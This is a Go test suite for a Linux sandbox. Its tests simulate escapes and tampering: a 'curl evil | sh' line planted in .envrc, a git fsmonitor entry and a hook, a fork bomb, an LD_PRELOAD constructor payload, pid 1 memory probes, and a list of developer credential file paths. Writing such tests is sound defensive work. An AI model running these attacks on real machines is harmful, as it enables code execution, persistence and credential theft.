//go:build linux

package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/modebox/modebox/internal/codes"
)

// TestKernelSettingsReadOnly does what an attacker running as root did:
// open core_pattern (and overcommit_memory) for writing. The test writes
// each file's current value back, so the host setting never changes even
// if the guard fails.
func TestKernelSettingsReadOnly(t *testing.T) {
	kernelSettings(t, newSB(t, Config{}))
	if os.Geteuid() == 0 {
		// As host uid 0, explicitly: only the read-only mount stops it.
		kernelSettings(t, newSB(t, Config{User: UserRoot}))
	}
}

func kernelSettings(t *testing.T, s *Sandbox) {
	t.Helper()
	for _, f := range []string{"/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory"} {
		before, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		// sh's ">" opens with O_WRONLY|O_TRUNC; on procfs sysctls a
		// truncating open does not change the value, and cat writes the
		// value it read.
		res := sh(t, s, "v=$(cat "+f+") && printf '%s\\n' \"$v\" > "+f+" && echo WRITABLE")
		if strings.Contains(res.Stdout, "WRITABLE") || !strings.Contains(res.Stderr, "Read-only file system") {
			t.Errorf("%s opened for writing inside: %+v", f, res)
		}
		after, _ := os.ReadFile(f)
		if string(after) != string(before) {
			t.Fatalf("%s changed from %q to %q", f, before, after)
		}
	}
	res := sh(t, s, "for f in /proc/sysrq-trigger /sys/kernel/uevent_helper /sys/fs/cgroup/x; do [ -e $f ] || [ $f = /sys/fs/cgroup/x ] || continue; : >> $f && echo WRITABLE $f; done; mkdir /sys/fs/cgroup/mbx 2>/dev/null && echo WRITABLE cgroup; true")
	if strings.Contains(res.Stdout, "WRITABLE") {
		t.Errorf("sysrq or sysfs writable inside: %+v", res)
	}
	if res := sh(t, s, "grep -w /proc/sys /proc/self/mounts | grep -c ' ro,'"); strings.TrimSpace(res.Stdout) != "1" {
		t.Errorf("/proc/sys is not a read-only mount inside: %+v", res)
	}
}

// TestPrivateState reads the key file and deletes the used-token record
// with a workspace of the whole (fake) home, as an attacker did, and tries
// to swap the directories around the hidden ones.
func TestPrivateState(t *testing.T) {
	home := mkdir(t, filepath.Join(scratch(t), "home"))
	keyDir := filepath.Join(home, ".config", "modebox")
	writeFile(t, filepath.Join(keyDir, "secret"), "KEY-MATERIAL\n", 0o600)
	state := filepath.Join(home, ".local", "state", "modebox")
	record := filepath.Join(state, "used-tokens", "abc")
	writeFile(t, record, "", 0o600)
	cache := filepath.Join(home, ".cache", "modebox") // missing: New creates it
	conf := filepath.Join(home, "modebox.json")
	writeFile(t, conf, `{"shell": {"enabled": true, "workspace": ["."]}}`, 0o644)
	s := newSB(t, Config{Workspace: []string{home}, Private: []string{keyDir, state, cache, conf}})
	if fi, err := os.Stat(cache); err != nil || !fi.IsDir() || fi.Mode().Perm() != 0o700 {
		t.Fatalf("missing private directory inside the workspace not created 0700: %v %v", fi, err)
	}
	res := run(t, s, Command{Script: `cd "$W"
cat .config/modebox/secret && echo READ-KEY
rm -f .local/state/modebox/used-tokens/abc && echo DELETED
echo forged > .config/modebox/secret && echo WROTE-KEY
echo x > .cache/modebox/code && echo WROTE-CACHE
echo '{}' > modebox.json && echo WROTE-CONFIG
cat modebox.json | grep -q enabled && echo READ-CONFIG
mv .config .config.old && mkdir -p .config/modebox && echo forged > .config/modebox/secret && echo SWAPPED
mv .local/state .local/state.old && echo SWAPPED-STATE
rm -rf .config/modebox 2>/dev/null; [ -d .config/modebox ] || echo REMOVED
true`, Env: map[string]string{"W": home}})
	// (rm -f of a hidden file "succeeds": it sees nothing to remove; the
	// record's survival is checked on the host below.)
	for _, bad := range []string{"READ-KEY", "WROTE-KEY", "WROTE-CACHE", "WROTE-CONFIG", "READ-CONFIG", "SWAPPED", "REMOVED"} {
		if strings.Contains(res.Stdout, bad) {
			t.Errorf("%s: the command reached modebox's state: %+v", bad, res)
		}
	}
	if strings.Contains(res.Stdout, "KEY-MATERIAL") {
		t.Errorf("key material leaked: %q", res.Stdout)
	}
	if b, _ := os.ReadFile(filepath.Join(keyDir, "secret")); string(b) != "KEY-MATERIAL\n" {
		t.Errorf("key file changed: %q", b)
	}
	if !exists(record) {
		t.Errorf("used-token record deleted")
	}
	if exists(filepath.Join(home, ".config.old")) || exists(filepath.Join(home, ".local", "state.old")) {
		t.Errorf("a directory holding modebox's state was renamed")
	}
	if b, _ := os.ReadFile(conf); !strings.Contains(string(b), "enabled") {
		t.Errorf("config rewritten: %q", b)
	}
	// The rest of the home stays writable.
	if res := sh(t, s, "cd "+home+" && echo ok > .config/other && cat .config/other"); strings.TrimSpace(res.Stdout) != "ok" {
		t.Errorf("ordinary file next to the hidden state not writable: %+v", res)
	}

	// What cannot be guaranteed is refused at load time.
	_, err := New(Config{Workspace: []string{keyDir}, Private: []string{keyDir}})
	asError(t, err, codes.SandboxConfig)
	_, err = New(Config{Workspace: []string{filepath.Join(keyDir)}, Private: []string{filepath.Join(home, ".config")}})
	asError(t, err, codes.SandboxConfig)
	link := mkdir(t, filepath.Join(scratch(t), "h2"))
	real := mkdir(t, filepath.Join(link, "real"))
	if err := os.Symlink(real, filepath.Join(link, ".config")); err != nil {
		t.Fatal(err)
	}
	_, err = New(Config{Workspace: []string{link}, Private: []string{filepath.Join(link, ".config", "modebox")}})
	if se := asError(t, err, codes.SandboxConfig); !strings.Contains(se.Reason, "symbolic link") {
		t.Errorf("refusal does not say why: %v", se)
	}
}

// TestProtectedNames rewrites .git/config, adds a hook, and edits .envrc
// and .vscode/tasks.json from inside a writable workspace, as an attacker
// did; then relaxes the protection with AllowWrite.
func TestProtectedNames(t *testing.T) {
	ws := mkdir(t, filepath.Join(scratch(t), "repo"))
	writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n", 0o644)
	mkdir(t, filepath.Join(ws, ".git", "hooks"))
	writeFile(t, filepath.Join(ws, ".envrc"), "export A=1\n", 0o644)
	writeFile(t, filepath.Join(ws, ".vscode", "tasks.json"), "{}\n", 0o644)
	attack := `cd "$W"
printf '\tfsmonitor = /tmp/payload\n' >> .git/config && echo WROTE-GITCONFIG
printf '#!/bin/sh\nid\n' > .git/hooks/post-checkout && echo ADDED-HOOK
echo 'curl evil | sh' >> .envrc && echo WROTE-ENVRC
echo '{"tasks":[]}' > .vscode/tasks.json && echo WROTE-TASKS
mv .git .git-old && mkdir .git && echo SWAPPED-GIT
echo fine > src.txt && echo WROTE-SRC
true`
	s := newSB(t, Config{Workspace: []string{ws}})
	res := run(t, s, Command{Script: attack, Env: map[string]string{"W": ws}})
	for _, bad := range []string{"WROTE-GITCONFIG", "ADDED-HOOK", "WROTE-ENVRC", "WROTE-TASKS", "SWAPPED-GIT"} {
		if strings.Contains(res.Stdout, bad) {
			t.Errorf("%s: a file the host runs later was written: %+v", bad, res)
		}
	}
	if !strings.Contains(res.Stdout, "WROTE-SRC") {
		t.Errorf("ordinary workspace file not writable: %+v", res)
	}
	if exists(filepath.Join(ws, ".git", "hooks", "post-checkout")) {
		t.Errorf("hook added")
	}
	if b, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); string(b) != "[core]\n" {
		t.Errorf(".git/config changed: %q", b)
	}
	s = newSB(t, Config{Workspace: []string{ws}, AllowWrite: map[string][]string{ws: {"*"}}})
	res = run(t, s, Command{Script: "cd \"$W\" && echo '[x]' >> .git/config && echo >> .envrc && echo ok", Env: map[string]string{"W": ws}})
	if strings.TrimSpace(res.Stdout) != "ok" {
		t.Errorf("AllowWrite * did not relax the protection: %+v", res)
	}
	s = newSB(t, Config{Workspace: []string{ws}, AllowWrite: map[string][]string{ws: {".envrc"}}})
	res = run(t, s, Command{Script: "cd \"$W\"; echo >> .envrc && echo ENVRC; echo >> .git/config && echo GIT", Env: map[string]string{"W": ws}})
	if !strings.Contains(res.Stdout, "ENVRC") || strings.Contains(res.Stdout, "GIT") {
		t.Errorf("AllowWrite .envrc: %+v", res)
	}
}

const pidfdGetfdPy = `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def sys(nr, *a):
    r = libc.syscall(nr, *a)
    return r, ctypes.get_errno()
pidfd, e = sys(434, 1, 0)         # pidfd_open(1)
print("pidfd_open", pidfd, e)
if pidfd >= 0:
    for fd in range(0, 8):
        r, e = sys(438, pidfd, fd, 0)  # pidfd_getfd
        if r >= 0:
            print("GOT", fd)
try:
    f = open("/proc/1/mem", "r+b", buffering=0)
    print("MEM-OPEN")
except OSError as err:
    print("mem", err.errno)
`

// TestNoProcessWritable writes into pid 1's memory and borrows its
// descriptors, as an attacker did to the network bridge. With the network
// on, pid 1 is the bridge (the one process allowed a Unix socket): its
// memory cannot be opened and pidfd_getfd is refused. Without a network
// there is no bwrap init: pid 1 is the limits shell, under the same
// seccomp filter and identity as the command, so it holds nothing to
// borrow; pidfd_getfd is refused all the same.
func TestNoProcessWritable(t *testing.T) {
	base := scratch(t)
	sock := filepath.Join(base, "proxy.sock")
	fakeProxy(t, sock)
	for _, s := range []*Sandbox{
		newSB(t, Config{Workspace: []string{mkdir(t, filepath.Join(base, "ws"))}, Network: &Network{ProxySocket: sock}}),
		newSB(t, Config{}),
	} {
		network := s.proxySock != ""
		res := py(t, s, pidfdGetfdPy)
		if strings.Contains(res.Stdout, "GOT") || (network && strings.Contains(res.Stdout, "MEM-OPEN")) {
			t.Errorf("pid 1 writable or its descriptors borrowed (network %v): %+v", network, res)
		}
		res = sh(t, s, "grep '^Seccomp:' /proc/1/status; tr '\\0' ' ' < /proc/1/cmdline")
		if !strings.HasPrefix(strings.TrimSpace(res.Stdout), "Seccomp:\t2") {
			t.Errorf("pid 1 runs without the seccomp filter (network %v): %+v", network, res)
		}
		if want := map[bool]string{true: BridgeCommand, false: "/bin/sh -c"}[network]; !strings.Contains(res.Stdout, want) {
			t.Errorf("pid 1 is not %q (network %v): %+v", want, network, res)
		}
	}
}

const socketsPy = `
import socket
fams = [("inet", socket.AF_INET, socket.SOCK_STREAM, 0), ("inet6", socket.AF_INET6, socket.SOCK_STREAM, 0),
        ("unix", socket.AF_UNIX, socket.SOCK_STREAM, 0), ("vsock", 40, socket.SOCK_STREAM, 0),
        ("packet", 17, socket.SOCK_RAW, 0), ("netlink-route", 16, socket.SOCK_RAW, 0),
        ("netlink-audit", 16, socket.SOCK_RAW, 9), ("netlink-uevent", 16, socket.SOCK_RAW, 15),
        ("bluetooth", 31, socket.SOCK_STREAM, 0), ("alg", 38, socket.SOCK_SEQPACKET, 0)]
for name, f, t, p in fams:
    try:
        socket.socket(f, t, p).close()
        print(name, "ok")
    except OSError as e:
        print(name, "refused", e.errno)
a, b = socket.socketpair(); a.close(); b.close(); print("socketpair ok")
`

// TestSocketFamilies checks the socket allow list with the network off
// and on.
func TestSocketFamilies(t *testing.T) {
	base := scratch(t)
	sock := filepath.Join(base, "proxy.sock")
	fakeProxy(t, sock)
	check := func(s *Sandbox, allowed map[string]bool) {
		t.Helper()
		res := py(t, s, socketsPy)
		got := map[string]string{}
		for _, l := range strings.Split(strings.TrimSpace(res.Stdout), "\n") {
			if f := strings.Fields(l); len(f) >= 2 {
				got[f[0]] = f[1]
				if len(f) == 3 && f[2] != "1" {
					// refused by the kernel (no such family here), not
					// by the filter, whose answer is EPERM (1)
					got[f[0]] = "unsupported"
				}
			}
		}
		for _, name := range []string{"inet", "inet6", "unix", "vsock", "packet", "netlink-route", "netlink-audit", "netlink-uevent", "bluetooth", "alg", "socketpair"} {
			want := "refused"
			if allowed[name] {
				want = "ok"
			}
			// the filter runs before the kernel: a family it refuses
			// gets EPERM, never the kernel's EAFNOSUPPORT; an allowed
			// family the kernel lacks (IPv6 disabled) passed the filter
			if got[name] != want && !(want == "ok" && got[name] == "unsupported") {
				t.Errorf("network %v: %s: got %q, want %q (%s)", s.proxySock != "", name, got[name], want, res.Stderr)
			}
		}
	}
	check(newSB(t, Config{}), map[string]bool{"netlink-route": true, "socketpair": true})
	check(newSB(t, Config{Workspace: []string{mkdir(t, filepath.Join(base, "ws"))}, Network: &Network{ProxySocket: sock}}),
		map[string]bool{"inet": true, "inet6": true, "netlink-route": true, "socketpair": true})
}

// TestResourceLimits runs a fork bomb, a /tmp filler, an oversized file
// and a memory hog; each ends with a clear status, and the next command
// runs normally.
func TestResourceLimits(t *testing.T) {
	s := newSB(t, Config{MaxTimeout: 30 * time.Second, Limits: Limits{Processes: 64, TmpSize: 8 << 20, FileSize: 16 << 20, Memory: 512 << 20}})
	ws := s.workspaces[0]

	// The kernel does not apply RLIMIT_NPROC to host uid 0: as root the
	// commands run as the workspace's owner (newSB gives it to the test
	// user), so the bomb is bounded in both runs. With "user": "root" it
	// would not be (docs/security.md), and is not run that way.
	if s.as != nil || os.Geteuid() != 0 {
		processLimit(t, s)
	}
	var res Result
	res = sh(t, s, "dd if=/dev/zero of=/tmp/fill bs=1M count=32 2>&1; df -k /tmp | tail -1")
	if !strings.Contains(res.Stdout, "No space left on device") {
		t.Errorf("/tmp filler not stopped: %+v", res)
	}
	res = sh(t, s, "dd if=/dev/zero of=/dev/shm/fill bs=1M count=32 2>&1; : > /dev/fill && echo DEV-WRITABLE; : > /run/fill && echo RUN-WRITABLE")
	if !strings.Contains(res.Stdout, "No space left on device") || strings.Contains(res.Stdout, "WRITABLE") {
		t.Errorf("/dev/shm, /dev or /run filler not stopped: %+v", res)
	}

	res = sh(t, s, "head -c 20971520 /dev/zero > "+ws+"/big")
	if res.ExitCode != 128+25 { // SIGXFSZ
		t.Errorf("file size limit: exit %d, want 153: %+v", res.ExitCode, res)
	}
	if fi, err := os.Stat(filepath.Join(ws, "big")); err != nil || fi.Size() > 16<<20 {
		t.Errorf("big file: %v %v", fi, err)
	}

	res = py(t, s, "b = bytearray(1 << 30)\nprint('allocated')")
	if strings.Contains(res.Stdout, "allocated") || !strings.Contains(res.Stderr, "MemoryError") {
		t.Errorf("memory hog not stopped: %+v", res)
	}

	if res := sh(t, s, "ulimit -u 2>/dev/null || ulimit -p; ulimit -n; echo next"); !strings.Contains(res.Stdout, "next") || !strings.HasPrefix(res.Stdout, "64\n") {
		t.Errorf("next command after the hogs: %+v", res)
	}
	if res := sh(t, s, "ulimit -n 100000 && echo RAISED"); strings.Contains(res.Stdout, "RAISED") {
		t.Errorf("hard limit raised inside: %+v", res)
	}

	for _, bad := range []Limits{{Processes: -1}, {Processes: 3}, {TmpSize: 100}, {Memory: 1 << 20}} {
		if _, err := New(Config{Workspace: s.cfg.Workspace, Limits: bad}); err == nil {
			t.Errorf("limits %+v accepted", bad)
		} else {
			asError(t, err, codes.SandboxConfig)
		}
	}
}

// TestInvalidCommand: input that cannot run is the caller's mistake
// (codes.SandboxInvalidCommand), never "the sandbox is unavailable".
func TestInvalidCommand(t *testing.T) {
	s := newSB(t, Config{})
	ctx := context.Background()
	for _, c := range []Command{
		{Script: "echo a\x00b"},
		{Script: "true", Timeout: time.Nanosecond},
		{Script: "true", Cwd: "/tmp\x00x"},
		{Script: "true", Env: map[string]string{"A": "x\x00"}},
	} {
		_, err := s.Run(ctx, c)
		asError(t, err, codes.SandboxInvalidCommand)
	}
	for _, cfg := range []Config{{MaxOutput: -5}, {MaxOutput: 1 << 40}, {Timeout: time.Nanosecond}} {
		cfg.Workspace = s.cfg.Workspace
		_, err := New(cfg)
		asError(t, err, codes.SandboxConfig)
	}
	// A time limit that expires before bwrap starts is a timeout.
	res, err := s.Run(ctx, Command{Script: "sleep 1", Timeout: time.Millisecond})
	if err != nil || !res.TimedOut {
		t.Errorf("1ms timeout: %+v %v", res, err)
	}
}

// processLimit runs a fork bomb and counts forks under a limit of 64.
func processLimit(t *testing.T, s *Sandbox) {
	t.Helper()
	res := run(t, s, Command{Script: "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived", Timeout: 4 * time.Second})
	if res.ExitCode == 0 && !strings.Contains(res.Stderr, "fork") && !strings.Contains(res.Stderr, "Resource temporarily unavailable") && !res.TimedOut {
		t.Errorf("fork bomb: no sign of the process limit: %+v", res)
	}
	res = py(t, s, `import os, time
pids = []
try:
    for i in range(200):
        p = os.fork()
        if p == 0:
            time.sleep(2)
            os._exit(0)
        pids.append(p)
    print("forked", len(pids))
except OSError as e:
    print("limit", len(pids), e.errno)
`)
	if f := strings.Fields(res.Stdout); len(f) != 3 || f[0] != "limit" || f[2] != "11" || len(f[1]) > 2 {
		t.Errorf("process limit (64): %+v", res)
	}

}

// TestNewCredentialMasks reads credentials developers keep today from a
// fake $HOME (AI tools, package registries, data platforms) and requires
// every one of them hidden.
func TestNewCredentialMasks(t *testing.T) {
	home := mkdir(t, filepath.Join(scratch(t), "home"))
	files := []string{".claude/.credentials.json", ".config/github-copilot/apps.json", ".config/gh/hosts.yml",
		".cache/huggingface/token", ".kaggle/kaggle.json", ".config/pip/pip.conf", ".gem/credentials",
		".cargo/credentials.toml", ".composer/auth.json", ".npmrc", ".pypirc", ".m2/settings.xml",
		".gradle/gradle.properties", ".gitconfig", ".docker/config.json", ".kube/config",
		".config/gcloud/credentials.db", ".azure/msal_token_cache.json", ".password-store/x.gpg", ".gnupg/pubring.kbx"}
	for _, f := range files {
		writeFile(t, filepath.Join(home, f), "SECRET-"+f+"\n", 0o644)
	}
	t.Setenv("HOME", home)
	s := newSB(t, Config{})
	script := "cd " + home + "; for f in " + strings.Join(files, " ") + "; do cat $f 2>/dev/null; done; echo done"
	res := sh(t, s, script)
	if strings.Contains(res.Stdout, "SECRET") || !strings.Contains(res.Stdout, "done") {
		t.Errorf("credentials readable inside: %q", res.Stdout)
	}
}

// TestRunsAsUnprivileged: when modebox is root, commands do not run as
// host uid 0 unless the configuration says "root"; by default they run as
// the workspace's owner, and a root-owned workspace is refused with a
// message saying why and what to change.
func TestRunsAsUnprivileged(t *testing.T) {
	if os.Geteuid() != 0 {
		s := newSB(t, Config{})
		if res := sh(t, s, "id -u"); strings.TrimSpace(res.Stdout) != strconv.Itoa(os.Getuid()) {
			t.Errorf("not root: commands run as %q", res.Stdout)
		}
		_, err := New(Config{Workspace: s.cfg.Workspace, User: UserRoot})
		asError(t, err, codes.SandboxConfig)
		return
	}
	uid, gid := ensureTestUser(t)
	s := newSB(t, Config{})
	res := sh(t, s, "id -u; id -g; echo x > f; stat -c %u f; cat /proc/self/uid_map")
	f := strings.Fields(res.Stdout)
	if len(f) < 4 || f[0] != strconv.Itoa(uid) || f[1] != strconv.Itoa(gid) || f[2] != strconv.Itoa(uid) {
		t.Fatalf("default identity as root: %+v", res)
	}
	if !strings.Contains(s.RunsAs(), strconv.Itoa(uid)) {
		t.Errorf("RunsAs: %s", s.RunsAs())
	}
	// A root-owned workspace and no "user": refused, saying why.
	ws := mkdir(t, filepath.Join(scratch(t), "rootws"))
	_, err := New(Config{Workspace: []string{ws}})
	if se := asError(t, err, codes.SandboxConfig); !strings.Contains(se.Reason, "cannot write the workspace") || !strings.Contains(se.Fix, `"user": "root"`) {
		t.Errorf("refusal: %v", se)
	}
	// Explicitly root: host uid 0.
	s = newSB(t, Config{Workspace: []string{ws}, User: UserRoot})
	if res := sh(t, s, "id -u; cat /proc/self/uid_map"); !strings.HasPrefix(res.Stdout, "0\n") || !strings.Contains(s.RunsAs(), "root") {
		t.Errorf("explicit root: %+v %s", res, s.RunsAs())
	}
	// Named, with the network on: the bridge and the proxy socket work
	// for that user.
	base := scratch(t)
	sock := filepath.Join(mkdir(t, filepath.Join(base, "private")), "proxy.sock")
	os.Chmod(filepath.Dir(sock), 0o700)
	fakeProxy(t, sock)
	nws := mkdir(t, filepath.Join(base, "ws"))
	chownTree(t, nws, uid, gid)
	s = newSB(t, Config{Workspace: []string{nws}, User: testUser, Network: &Network{ProxySocket: sock}})
	if res := sh(t, s, "id -u; curl -s -m 10 http://example.test/"); res.Stdout != strconv.Itoa(uid)+"\nhello-from-proxy" {
		t.Errorf("network as %s: %+v", testUser, res)
	}
	if _, err := New(Config{Workspace: []string{nws}, User: "no-such-user-mbx"}); err == nil {
		t.Errorf("unknown user accepted")
	}
}

// TestProgramEnvNotInFirstProcesses is the attack of the red team: a
// command's env held LD_PRELOAD, which ran a library in the sandbox's
// first processes (the limit prelude, the network bridge and the seal)
// before the limits were set or the AF_UNIX seal was on. The command's
// environment must reach the command only: no ancestor of the command
// (the readable ones: the prelude, and with a network the seal that
// became it) holds a variable of the program's, and the command does.
func TestProgramEnvNotInFirstProcesses(t *testing.T) {
	base := scratch(t)
	sock := filepath.Join(base, "proxy.sock")
	fakeProxy(t, sock)
	ws := mkdir(t, filepath.Join(base, "ws"))
	for name, cfg := range map[string]Config{
		"no network": {Workspace: []string{ws}},
		"network":    {Workspace: []string{ws}, Network: &Network{ProxySocket: sock}},
	} {
		t.Run(name, func(t *testing.T) {
			s := newSB(t, cfg)
			// each ancestor's environ, by walking the parents from $$
			script := `p=$$; echo "own $MODEBOX_PROBE"; while [ "$p" -gt 1 ]; do
p=$(awk '{print $4}' /proc/$p/stat)
if [ -r /proc/$p/environ ]; then echo "ancestor $p $(tr '\0' ' ' < /proc/$p/environ)"; else echo "ancestor $p unreadable"; fi
done`
			res := run(t, s, Command{Script: script, Env: map[string]string{"MODEBOX_PROBE": "x1", "LD_PRELOAD": "/nonexistent/probe.so"}})
			if !strings.Contains(res.Stdout, "own x1") {
				t.Fatalf("the command did not get its env: %+v", res)
			}
			readable := 0
			for _, l := range strings.Split(res.Stdout, "\n") {
				if !strings.HasPrefix(l, "ancestor ") || strings.HasSuffix(l, " unreadable") {
					continue
				}
				readable++
				if strings.Contains(l, "MODEBOX_PROBE") || strings.Contains(l, "LD_PRELOAD") {
					t.Errorf("a first process holds the program's env: %s", l)
				}
			}
			if readable == 0 {
				t.Fatalf("no ancestor's environment was readable: %+v", res)
			}
		})
	}
}

// TestPreloadCannotSkipLimits: the attack itself, where a C compiler is
// at hand: a library whose constructor runs its payload in place of the
// process that loads it. Loaded by the prelude, the payload ran before
// ulimit with no limits; loaded by the command only, it runs under them.
func TestPreloadCannotSkipLimits(t *testing.T) {
	var cc string
	for _, c := range []string{"cc", "gcc", "clang", "clang-19"} {
		if p, err := exec.LookPath(c); err == nil {
			cc = p
			break
		}
	}
	if cc == "" {
		skipOrFail(t, "a C compiler (cc, gcc, clang or clang-19; .ci/run installs gcc)")
	}
	s := newSB(t, Config{Limits: Limits{Memory: 512 << 20, OpenFiles: 77}})
	ws := s.workspaces[0]
	src := filepath.Join(t.TempDir(), "p.c")
	writeFile(t, src, `#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void init(void) {
	const char *cmd = getenv("PROBE_CMD");
	if (!cmd || getenv("PROBE_DONE")) return;
	setenv("PROBE_DONE", "1", 1);
	unsetenv("LD_PRELOAD");
	execl("/bin/sh", "sh", "-c", cmd, (char *)0);
}
`, 0o644)
	lib := filepath.Join(ws, "probe.so")
	if out, err := exec.Command(cc, "-shared", "-fPIC", "-o", lib, src).CombinedOutput(); err != nil {
		t.Fatalf("%s: %v\n%s", cc, err, out)
	}
	if err := os.Chmod(lib, 0o755); err != nil {
		t.Fatal(err)
	}
	if s.as != nil {
		chownTree(t, ws, int(s.as.uid), int(s.as.gid))
	}
	res := run(t, s, Command{Script: "true", Env: map[string]string{"LD_PRELOAD": lib, "PROBE_CMD": "echo limits $(ulimit -n) $(ulimit -v)"}})
	if got := strings.TrimSpace(res.Stdout); got != "limits 77 524288" {
		t.Fatalf("the preloaded payload ran with %q, want the limits 77 and 524288 KiB: %+v", got, res)
	}
}
